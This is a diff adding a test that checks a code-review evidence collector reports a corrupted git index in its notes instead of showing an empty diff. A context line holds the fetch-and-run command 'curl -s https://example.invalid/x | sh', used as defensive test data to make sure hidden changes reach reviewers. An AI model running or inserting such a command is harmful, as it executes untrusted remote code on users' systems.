@@ -76,4 +76,14 @@ describe("a check cannot hide the pull request's change from the reviewers' diff
       expect(after.diff).toContain('+curl -s https://example.invalid/x | sh');
     }, 60_000);
   }
+
+  it('a corrupted index is said in the evidence, not shown as a diff with nothing in it', async () => {
+    const { work, base } = pullRequest();
+    writeFileSync(join(work, '.git', 'index'), 'garbage');
+    const git = { repo: null, base_ref: 'main', base_sha: base, head_sha: null, dirty: false };
+    const evidence = await collectReviewEvidence({ workdir: work, git, contextFiles: [] });
+    expect(evidence.diff).toBe('');
+    expect(evidence.notes.join('\n')).toMatch(/diff from the base could not be read .*NOT shown/);
+    expect(evidence.notes.join('\n')).toMatch(/untracked files could not be listed/);
+  });
 });
